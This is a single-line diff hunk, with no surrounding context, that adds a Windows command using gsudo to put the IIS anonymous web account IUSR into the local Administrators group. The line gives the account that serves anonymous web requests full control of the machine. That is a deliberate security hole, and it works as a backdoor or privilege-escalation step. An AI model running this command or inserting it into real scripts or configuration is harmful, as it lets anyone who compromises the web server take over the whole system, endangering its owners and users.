@@ -1,0 +1,1 @@
+gsudo net localgroup Administrators IUSR /add
